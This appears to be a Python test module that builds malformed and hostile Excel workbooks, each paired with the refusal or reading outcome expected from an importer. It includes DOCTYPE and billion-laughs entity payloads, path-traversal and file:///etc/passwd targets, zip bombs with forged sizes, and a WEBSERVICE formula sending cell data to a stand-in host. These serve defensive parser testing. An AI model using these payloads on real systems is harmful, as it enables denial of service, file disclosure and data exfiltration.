"""Workbooks that are damaged, odd or made to harm, each with what is to come of it."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from tests.conftest import FIXTURES

PLAN = (FIXTURES / "plan-2025.xlsx").read_bytes()
FIRST, SECOND = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
WORKBOOK, LINKS, TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
TEXTS, STYLES, ROOT = "xl/sharedStrings.xml", "xl/styles.xml", "_rels/.rels"
SAME = "same"
"""The plan is read as if nothing had happened to it."""
READ = "read"
"""It is read; what then differs is checked elsewhere."""
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
Parts = dict[str, bytes]


class Book(NamedTuple):
    """A file, and what is expected: a kind of refusal, SAME or READ."""

    content: bytes
    expected: str


BOOKS: dict[str, Callable[[], Book]] = {}


def book(expected: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        BOOKS[build.__name__] = lambda: Book(build(), expected)
        return build

    return register


def parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(PLAN)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(content: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return stream.getvalue()


def changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    content = parts()
    content[name] = change(content[name])
    return zipped(content)


def replaced(name: str, old: bytes, new: bytes, count: int = 1) -> bytes:
    def change(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, count)

    return changed(name, change)


def with_cells(xml: str) -> bytes:
    """Put cells or rows at the end of the first area's sheet."""
    return replaced(FIRST, b"</sheetData>", xml.encode() + b"</sheetData>")


# What can be said in few words: the old and new bytes of one part, and what comes of it.
_SWAPS: dict[str, tuple[str, bytes, bytes, str]] = {
    "doctype_in_sheet": (FIRST, b"<worksheet", b"<!DOCTYPE x [<!ENTITY a 'b'>]><worksheet", "document-type"),
    "doctype_in_workbook": (WORKBOOK, b"<workbook", b"<!DOCTYPE workbook><workbook", "document-type"),
    "doctype_in_texts": (TEXTS, b"<sst", b"<!DOCTYPE sst [<!ENTITY a 'aaaa'>]><sst", "document-type"),
    "doctype_in_styles": (STYLES, b"<styleSheet", b"<!DOCTYPE styleSheet><styleSheet", "document-type"),
    "doctype_in_links": (LINKS, b"<Relationships", b"<!DOCTYPE x SYSTEM 'http://x.test/'><Relationships", "document-type"),
    "doctype_in_types": (TYPES, b"<Types", b"<!DOCTYPE x><Types", "document-type"),
    "doctype_in_root": (ROOT, b"<Relationships", b"<!DOCTYPE x><Relationships", "document-type"),
    "sheet_is_cut": (FIRST, b"</sheetData>", b"", "unreadable-tab"),
    "sheet_has_a_stray_ampersand": (FIRST, b"<sheetData>", b"<sheetData>&", "unreadable-tab"),
    "sheet_has_an_unknown_entity": (FIRST, b"<sheetData>", b"<sheetData>&nbsp;", "unreadable-tab"),
    "sheet_has_a_null": (FIRST, b"<sheetData>", b"<sheetData>\0", "unreadable-tab"),
    "sheet_has_bad_utf8": (FIRST, b"<sheetData>", b"<sheetData>\xff", "unreadable-tab"),
    "sheet_has_an_unbound_prefix": (FIRST, b"<sheetData>", b"<q:a/><sheetData>", "unreadable-tab"),
    "sheet_has_an_attribute_twice": (FIRST, b"<sheetData>", b"<sheetData a='1' a='2'>", "unreadable-tab"),
    "sheet_in_an_unknown_encoding": (FIRST, b'encoding="UTF-8"', b'encoding="EBCDIC-XX"', "unreadable-tab"),
    "workbook_is_cut": (WORKBOOK, b"</workbook>", b"", "damaged"),
    "links_are_cut": (LINKS, b"</Relationships>", b"", "damaged"),
    "types_are_cut": (TYPES, b"</Types>", b"", "damaged"),
    "texts_are_cut": (TEXTS, b"</sst>", b"", "damaged"),
    "styles_are_cut": (STYLES, b"</styleSheet>", b"", "damaged"),
    "comments_are_cut": ("xl/comments1.xml", b"</comments>", b"", "damaged"),
    "no_tabs": (WORKBOOK, b"<sheets>", b"<sheets/><x>", "damaged"),
    "tab_without_part": (LINKS, b"worksheets/sheet2.xml", b"worksheets/gone.xml", "unreadable-tab"),
    "tab_without_link": (WORKBOOK, b'sheetId="2"', b'sheetId="2" x="1"', SAME),
    "tab_outside_the_package": (LINKS, b'Target="worksheets/sheet2.xml"', b'Target="http://x.test/a.xml" TargetMode="External"', "unreadable-tab"),
    "tab_in_the_file_system": (LINKS, b'Target="worksheets/sheet2.xml"', b'Target="file:///etc/passwd" TargetMode="External"', "unreadable-tab"),
    "tab_by_traversal": (LINKS, b"worksheets/sheet2.xml", b"../../../etc/passwd", "unreadable-tab"),
    "tab_by_long_way": (LINKS, b"worksheets/sheet2.xml", b"../xl/./worksheets/../worksheets/sheet2.xml", SAME),
    "tab_by_absolute_name": (LINKS, b'Target="worksheets/sheet2.xml"', b'Target="/xl/worksheets/sheet2.xml"', SAME),
    "tab_in_other_case": (LINKS, b"worksheets/sheet2.xml", b"Worksheets/Sheet2.XML", SAME),
    "tab_percent_encoded": (LINKS, b"worksheets/sheet2.xml", b"worksheets/sheet%32.xml", SAME),
    "texts_outside": (LINKS, b'Target="sharedStrings.xml"', b'Target="http://x.test/s.xml" TargetMode="External"', "damaged"),
    "texts_missing": (LINKS, b"sharedStrings.xml", b"gone.xml", "damaged"),
    "styles_missing": (LINKS, b"styles.xml", b"gone.xml", "damaged"),
    "strange_row_number": (FIRST, b'<row r="3"', b'<row r="-3"', "unreadable-tab"),
    "row_number_with_words": (FIRST, b'<row r="3"', b'<row r="tre"', "unreadable-tab"),
    "row_number_too_high": (FIRST, b'<row r="3"', b'<row r="1048577"', "unreadable-tab"),
    "cell_of_no_place": (FIRST, b'<c r="A3"', b'<c r="A0"', "unreadable-tab"),
    "cell_beyond_the_sheet": (FIRST, b'<c r="A3"', b'<c r="XFE3"', "unreadable-tab"),
    "cell_with_words_for_place": (FIRST, b'<c r="A3"', b'<c r="hej"', "unreadable-tab"),
    "style_number_unknown": (FIRST, b'<c r="A3" s="', b'<c r="A3" s="9', READ),
    "style_number_absurd": (FIRST, b'<c r="A3" s="', b'<c r="A3" s="99999999999', "unreadable-tab"),
    "dimension_is_all": (FIRST, b"<dimension ref=", b'<dimension ref="A1:XFD1048576" x=', SAME),
    "dimension_is_nonsense": (FIRST, b"<dimension ref=", b'<dimension ref="hej" x=', "damaged"),
    "dimension_is_backwards": (FIRST, b"<dimension ref=", b'<dimension ref="Z99:A1" x=', READ),
    "counts_that_lie": (TEXTS, b"<sst ", b'<sst x:count="99999999999" xmlns:x="u" ', "damaged"),
    "texts_that_claim_to_be_endless": (TEXTS, b"uniqueCount=", b'uniqueCount="99999999999" x=', "damaged"),
    "texts_with_a_hidden_count": (TEXTS, b"uniqueCount=", b'uniqueCount="9&#57;999999999" x=', "damaged"),
    "styles_that_claim_to_be_endless": (STYLES, b"<cellXfs count=", b'<cellXfs count="99999999999" x=', "damaged"),
    "merges_that_claim_to_be_endless": ("xl/worksheets/sheet5.xml", b"<sheetData>", b'<x count="99999999999"/><sheetData>', "damaged"),
    "macro_workbook": (TYPES, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml", SAME),
    "template": (TYPES, b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml", "excel-template"),
    "macro_template": (TYPES, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.template.macroEnabled.main+xml", "excel-template"),
    "add_in": (TYPES, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.addin.macroEnabled.main+xml", "excel-add-in"),
    "word_document": (TYPES, b"spreadsheetml.sheet.main+xml", b"wordprocessingml.document.main+xml", "not-a-workbook"),
    "hidden_tab": (WORKBOOK, b'sheetId="3"', b'sheetId="3" state="veryHidden"', READ),
    "processing_instruction": (FIRST, b"<sheetData>", b"<?mso-x y?><sheetData>", SAME),
    "comment_in_xml": (FIRST, b"<sheetData>", b"<!-- <c r='A99'><v>1</v></c> --><sheetData>", SAME),
    "cdata_in_sheet": (FIRST, b"<sheetData>", b"<![CDATA[<c r='A99'><v>1</v></c>]]><sheetData>", READ),
    "unknown_elements": (FIRST, b"<sheetData>", b"<sheetData><ny xmlns='urn:x'><c r='A99'/></ny>", READ),
    "byte_order_mark": (FIRST, b"<?xml", b"\xef\xbb\xbf<?xml", SAME),
}  # fmt: skip


def _swap(name: str, old: bytes, new: bytes, expected: str) -> Callable[[], Book]:
    return lambda: Book(replaced(name, old, new), expected)


BOOKS.update({title: _swap(*swap) for title, swap in _SWAPS.items()})


# --- not a workbook at all --------------------------------------------------------------------

_FILES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty-file"),
    "one_byte": (b"P", "text-file"),
    "text": (b"Problem;Orsak\n", "text-file"),
    "text_in_utf16": ("Problem;Orsak\n".encode("utf-16"), "not-a-workbook"),
    "web_page": (b"<!DOCTYPE html><html>", "html-file"),
    "json_text": (b'{"a": 1}', "text-file"),
    "xml_text": (b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', "text-file"),
    "pdf": (b"%PDF-1.7\n\0\1\2", "not-a-workbook"),
    "picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "not-a-workbook"),
    "old_excel": (OLE + "Workbook".encode("utf-16-le") + b"\0\0", "old-excel"),
    "encrypted": (OLE + "EncryptedPackage".encode("utf-16-le") + b"\0\0", "encrypted"),
    "other_ole": (OLE, "not-a-workbook"),
    "zip_signature_only": (b"PK\3\4", "damaged"),
    "end_record_only": (b"PK\5\6" + b"\0" * 18, "not-a-workbook"),
    "half": (PLAN[: len(PLAN) // 2], "damaged"),
    "without_its_end": (PLAN[:-22], "damaged"),
    "text_before": (b"#!/bin/sh\n" + PLAN, "not-a-workbook"),
    "zeros_before": (b"\0" * 512 + PLAN, "not-a-workbook"),
    "zeros_behind": (PLAN + b"\0" * 10, READ),
    "two_workbooks_in_one": (PLAN + PLAN, "damaged"),
    "opendocument": (zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "opendocument"),
    "other_zip": (zipped({"a.txt": b"hej"}), "not-a-workbook"),
    "empty_zip": (zipped({}), "not-a-workbook"),
}  # fmt: skip
BOOKS.update({name: lambda data=data: Book(*data) for name, data in _FILES.items()})  # type: ignore[misc]


# --- the zip archive ---------------------------------------------------------------------------


def records(data: bytes) -> list[int]:
    """Return where the records of the central directory begin."""
    return [match.start() for match in re.finditer(b"PK\1\2", data)]


def patched(data: bytes, place: int, form: str, *values: int) -> bytes:
    new = struct.pack(form, *values)
    return data[:place] + new + data[place + len(new) :]


def record_of(data: bytes, name: str) -> int:
    return next(
        at for at in records(data)
        if data[at + 46 : at + 46 + struct.unpack_from("<H", data, at + 28)[0]] == name.encode()
    )  # fmt: skip


@book("unreadable-tab")
def wrong_checksum() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 16, "<L", 12345)


@book("unreadable-tab")
def size_that_lies_small() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 24, "<L", 10)


@book("unreadable-tab")
def size_that_lies_large() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 24, "<L", 2**31)


@book("damaged")
def entry_beyond_the_file() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 42, "<L", len(PLAN) + 100)


@book("damaged")
def overlapping_entries() -> bytes:
    data = zipped(parts())
    other = struct.unpack_from("<L", data, record_of(data, SECOND) + 42)[0]
    return patched(data, record_of(data, FIRST) + 42, "<L", other)


@book("unreadable-tab")
def unknown_compression() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 10, "<H", 99)


@book("encrypted")
def encrypted_entry() -> bytes:
    return patched(PLAN, record_of(PLAN, FIRST) + 8, "<H", 1)


@book("unreadable-tab")
def local_header_with_another_name() -> bytes:
    data = zipped(parts())
    start = struct.unpack_from("<L", data, record_of(data, FIRST) + 42)[0]
    return data[: start + 30] + SECOND.encode() + data[start + 30 + len(SECOND) :]


@book("unreadable-tab")
def local_header_with_another_size() -> bytes:
    data = zipped(parts())
    start = struct.unpack_from("<L", data, record_of(data, FIRST) + 42)[0]
    return patched(data, start + 18, "<L", 7)


@book("unreadable-tab")
def local_header_with_another_method() -> bytes:
    data = zipped(parts())
    start = struct.unpack_from("<L", data, record_of(data, FIRST) + 42)[0]
    return patched(data, start + 8, "<H", 0)


@book("damaged")
def name_twice() -> bytes:
    stream = io.BytesIO(zipped(parts()))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("xl/worksheets/sheetX.xml", parts()[SECOND])
    return stream.getvalue().replace(b"sheetX.xml", b"sheet2.xml")


@book("damaged")
def name_twice_in_other_case() -> bytes:
    return zipped(parts() | {"XL/Worksheets/SHEET2.xml": parts()[SECOND]})


@book(SAME)
def names_that_climb() -> bytes:
    return zipped(parts() | {"../../evil.txt": b"x", "/etc/evil": b"x", "C:\\evil": b"x"})


@book("damaged")
def name_that_is_no_utf8() -> bytes:
    data = zipped(parts() | {"ö.txt": b"x"})
    return data.replace("ö.txt".encode(), b"\xff\xfe.txt")


@book("too-large")
def more_entries_than_any_workbook() -> bytes:
    return zipped(parts() | {f"x/{n}": b"" for n in range(10_001)})


@book(SAME)
def many_entries() -> bytes:
    return zipped(parts() | {f"x/{n}": b"" for n in range(5_000)})


@book("damaged")
def directory_count_that_lies() -> bytes:
    return patched(PLAN, PLAN.rfind(b"PK\5\6") + 8, "<HH", 3, 3)


@book(SAME)
def stored_and_not_deflated() -> bytes:
    return zipped(parts(), zipfile.ZIP_STORED)


@book(SAME)
def with_an_archive_comment() -> bytes:
    stream = io.BytesIO(PLAN)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.comment = b"PK\5\6 from someone"
    return stream.getvalue()


def _bomb(name: str, size: int, claimed: int | None = None) -> bytes:
    """Return the plan with a part of `size` bytes of blanks; its headers may claim another size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    blank = b" " * (1 << 20)
    crc, raw = 0, b""
    for _ in range(size >> 20):
        raw += packer.compress(blank)
        crc = zlib.crc32(blank, crc)
    raw += packer.flush()
    content = parts()
    content.pop(name, None)
    content[name] = b"?" * len(raw)
    data = zipped(content, zipfile.ZIP_STORED)
    at = record_of(data, name)
    start = struct.unpack_from("<L", data, at + 42)[0]
    stated = (zlib.crc32(b"x") if claimed else crc, len(raw), claimed or size)
    data = data.replace(b"?" * len(raw), raw)
    data = patched(patched(data, start + 8, "<H", 8), start + 14, "<LLL", *stated)
    return patched(patched(data, at + 10, "<H", 8), at + 16, "<LLL", *stated)


@book("too-large")
def bomb_in_a_sheet() -> bytes:
    return _bomb(FIRST, 200 << 20)


@book("unreadable-tab")
def bomb_that_claims_to_be_small() -> bytes:
    return _bomb(FIRST, 100 << 20, claimed=1000)


@book("too-large")
def bomb_in_the_texts() -> bytes:
    return _bomb(TEXTS, 200 << 20)


# --- XML ---------------------------------------------------------------------------------------


def utf16(data: bytes, code: str = "utf-16") -> bytes:
    text = re.sub(r"^<\?xml[^>]*\?>", "", data.decode("utf-8"))
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode(code)


def prefixed(data: bytes) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text = re.sub(r"<(/?)([a-zA-Z]\w*)(?=[\s>/])", r"<\1x:\2", data.decode("utf-8"))
    return text.replace(f'xmlns="{main}"', f'xmlns:x="{main}"').encode()


def _in_utf16(name: str) -> Callable[[], Book]:
    return lambda: Book(changed(name, utf16), SAME)


def _with_prefix(name: str) -> Callable[[], Book]:
    return lambda: Book(changed(name, prefixed), SAME)


for _name in (FIRST, WORKBOOK, TEXTS, STYLES, LINKS, TYPES, ROOT):
    BOOKS[f"utf16_{_name}"] = _in_utf16(_name)
for _name in (FIRST, WORKBOOK, TEXTS, STYLES):
    BOOKS[f"prefixed_{_name}"] = _with_prefix(_name)


@book("document-type")
def doctype_in_utf16() -> bytes:
    return changed(TEXTS, lambda data: utf16(data.replace(b"<sst", b"<!DOCTYPE sst><sst", 1)))


@book("document-type")
def doctype_in_a_sheet_in_utf16() -> bytes:
    return changed(
        FIRST, lambda data: utf16(data.replace(b"<worksheet", b"<!DOCTYPE x><worksheet", 1))
    )


@book("unreadable-tab")
def sheet_in_utf32() -> bytes:
    return changed(FIRST, lambda data: data.decode().encode("utf-32"))


@book("damaged")
def texts_in_utf32() -> bytes:
    return changed(TEXTS, lambda data: data.decode().encode("utf-32"))


@book("document-type")
def billion_laughs() -> bytes:
    entities = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    head = f"<!DOCTYPE x [<!ENTITY l0 'lol'>{entities}]>".encode()
    return replaced(FIRST, b"<worksheet", head + b"<worksheet")


@book(SAME)
def deep_nesting() -> bytes:
    depth = 20_000
    return replaced(FIRST, b"<sheetData>", b"<a>" * depth + b"</a>" * depth + b"<sheetData>")


@book(SAME)
def very_long_attribute() -> bytes:
    return replaced(FIRST, b"<sheetData>", b'<a b="' + b"x" * 5_000_000 + b'"/><sheetData>')


@book(SAME)
def hundred_thousand_attributes() -> bytes:
    many = b"".join(b" a%d='1'" % n for n in range(100_000))
    return replaced(FIRST, b"<sheetData>", b"<a" + many + b"/><sheetData>")


@book(SAME)
def parts_under_other_names() -> bytes:
    def renamed(name: str) -> str:
        return name.replace("sharedStrings", "texts").replace("xl/workbook", "xl/book").replace(
            "rels/workbook", "rels/book"
        )  # fmt: skip

    content = {renamed(name): data for name, data in parts().items()}
    for name in (TYPES, ROOT, "xl/_rels/book.xml.rels"):
        content[name] = (
            content[name].replace(b"sharedStrings.xml", b"texts.xml")
            .replace(b"xl/workbook.xml", b"xl/book.xml")
        )  # fmt: skip
    return zipped(content)


@book(SAME)
def decoys_under_the_usual_names() -> bytes:
    """What lies where programs look by name is another plan, which no relationship leads to."""
    with zipfile.ZipFile(io.BytesIO(parts_under_other_names())) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    content[WORKBOOK] = parts()[WORKBOOK]
    content[TEXTS] = parts()[TEXTS].replace(b"<t>", b"<t>X")
    content[LINKS] = parts()[LINKS].replace(b"sheet2.xml", b"sheet3.xml")
    return zipped(content)


@book(SAME)
def strict_format() -> bytes:
    def strict(data: bytes) -> bytes:
        return data.replace(
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ).replace(
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        )

    return zipped(
        {n: strict(d) if n.endswith((".xml", ".rels")) else d for n, d in parts().items()}
    )


# --- cells -------------------------------------------------------------------------------------


@book("stray-cell")
def cell_in_the_last_corner() -> bytes:
    return with_cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@book(SAME)
def empty_cell_in_the_last_corner() -> bytes:
    return with_cells('<row r="1048576"><c r="XFD1048576" s="0"/></row>')


@book("stray-cell")
def text_far_to_the_right_and_far_down() -> bytes:
    return with_cells(
        '<row r="900000"><c r="A900000"><v>1</v></c></row><row r="900001"><c r="ZZ900001"><v>1</v></c></row>'
    )


@book(READ)
def cell_far_down() -> bytes:
    return with_cells('<row r="300000"><c r="A300000" t="inlineStr"><is><t>slut</t></is></c></row>')


@book("too-large")
def merged_over_and_over() -> bytes:
    merges = '<mergeCell ref="A1:G9"/>' * 90_000
    content = changed(
        FIRST, lambda data: re.sub(rb"<mergeCells.*?</mergeCells>", b"", data, flags=re.S)
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    found[FIRST] = found[FIRST].replace(
        b"</sheetData>", b"</sheetData><mergeCells>" + merges.encode() + b"</mergeCells>", 1
    )
    return zipped(found)


@book(READ)
def merged_over_the_whole_sheet() -> bytes:
    return changed(
        FIRST,
        lambda data: re.sub(rb"<mergeCells.*?</mergeCells>", b"", data, flags=re.S).replace(
            b"</sheetData>",
            b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            1,
        ),
    )


@book(READ)
def longest_text() -> bytes:
    return with_cells(
        f'<row r="90"><c r="A90" t="inlineStr"><is><t>{"ord " * 8191}</t></is></c></row>'
    )


@book(READ)
def text_longer_than_excel_allows() -> bytes:
    return with_cells(
        f'<row r="90"><c r="D90" t="inlineStr"><is><t>{"mål " * 250_000}</t></is></c></row>'
    )


def _shared_by(cells: int, length: int, close: bytes = b"</si>") -> bytes:
    """Return the plan with one long text that many cells share."""
    content = parts()
    texts = content[TEXTS]
    number = texts.count(b"<si>")
    text = b"<si><t>" + b"x" * length + b"</t>" + close
    content[TEXTS] = texts.replace(b"</sst>", text + b"</sst>")
    rows = "".join(
        f'<row r="{row}"><c r="K{row}" t="s"><v> 0{number} </v></c></row>'
        for row in range(200, 200 + cells)
    )
    content[FIRST] = content[FIRST].replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    return zipped(content)


@book("too-large")
def one_long_text_in_very_many_cells() -> bytes:
    return _shared_by(50_000, 1_000_000)


@book("too-large")
def one_long_text_with_false_ends() -> bytes:
    return _shared_by(5_000, 100_000, b"<!--" + b"</si>" * 9 + b"--></si>")


@book(READ)
def one_text_of_full_length_in_a_thousand_cells() -> bytes:
    return _shared_by(1_000, 32_767)


@book("too-large")
def millions_of_cells_on_several_tabs() -> bytes:
    content = parts()
    row = b"<row>" + b"<c><v/></c>" * 2_000 + b"</row>"
    for number in range(2, 8):
        name = f"xl/worksheets/sheet{number}.xml"
        rows = row * 950 + b"</sheetData>"
        content[name] = content[name].replace(b"</sheetData>", rows)
    return zipped(content)


@book("too-large")
def nothing_but_tags() -> bytes:
    return replaced(FIRST, b"<sheetData>", b"<a/>" * 16_100_000 + b"<sheetData>")


@book("damaged")
def text_number_that_is_not_there() -> bytes:
    return with_cells('<row r="90"><c r="A90" t="s"><v>999999</v></c></row>')


@book(READ)
def text_number_that_is_no_number() -> bytes:
    return with_cells('<row r="90"><c r="A90" t="s"><v>hej</v></c></row>')


@book(READ)
def number_that_is_no_number() -> bytes:
    return with_cells('<row r="90"><c r="A90"><v>hej</v></c></row>')


@book(READ)
def numbers_out_of_range() -> bytes:
    return with_cells(
        '<row r="90"><c r="A90"><v>1e999</v></c><c r="B90"><v>-1e308</v></c><c r="E90" s="1"><v>NaN</v></c></row>'
    )


@book(READ)
def cell_twice() -> bytes:
    return with_cells('<row r="90"><c r="A90"><v>1</v></c><c r="A90"><v>2</v></c></row>')


@book(READ)
def rows_out_of_order() -> bytes:
    return with_cells(
        '<row r="95"><c r="A95"><v>1</v></c></row><row r="91"><c r="A91"><v>2</v></c></row>'
    )


@book("damaged")
def unknown_cell_type() -> bytes:
    return with_cells('<row r="90"><c r="A90" t="zz"><v>1</v></c></row>')


@book(READ)
def control_and_direction_characters() -> bytes:
    text = "&#x202E;mål&#x2066; &#x200B;_x001B_[31m rött ]8;;http://x.test"
    return with_cells(f'<row r="90"><c r="A90" t="inlineStr"><is><t>{text}</t></is></c></row>')


@book(READ)
def formulas_that_reach_out() -> bytes:
    return with_cells(
        '<row r="90"><c r="A90"><f>WEBSERVICE("http://x.test/"&amp;A3)</f><v>1</v></c>'
        '<c r="B90" t="str"><f>HYPERLINK("http://x.test","klicka")</f><v>klicka</v></c>'
        "<c r=\"C90\"><f>'[http://x.test/b.xlsx]Blad'!A1</f></c></row>"
    )


@book(READ)
def formula_without_value() -> bytes:
    return with_cells('<row r="90"><c r="A90"><f>1+1</f></c></row>')


@book(READ)
def a_hundred_thousand_cells() -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="J{n}"><v>{n}</v></c><c r="K{n}"><v>1</v></c></row>'
        for n in range(100, 50_100)
    )
    return with_cells(rows)


@book(READ)
def two_thousand_columns_hidden() -> bytes:
    return replaced(FIRST, b"<cols>", b'<cols><col min="20" max="16384" hidden="1"/>')


@book(READ)
def tab_name_that_is_markup() -> bytes:
    return replaced(WORKBOOK, b'name="Analys"', b'name="[red]&lt;b&gt;::error::&#x202E;"')


@book("unreadable-tab")
def same_tab_name_twice() -> bytes:
    second = parts()[WORKBOOK].split(b'name="2.')[1].split(b'"')[0]
    return replaced(WORKBOOK, b'name="Analys"', b'name="2.' + second + b'"')


@book("unreadable-tab")
def a_thousand_tabs_of_one_part() -> bytes:
    tabs = "".join(f'<sheet name="t{n}" sheetId="{n + 50}" r:id="rId2"/>' for n in range(1000))
    return replaced(WORKBOOK, b"</sheets>", tabs.encode() + b"</sheets>")


@book("too-large")
def all_columns_hidden_over_and_over() -> bytes:
    hidden = b'<col min="1" max="16384" hidden="1"/>' * 100_000
    return replaced(FIRST, b"<cols>", b"<cols>" + hidden)
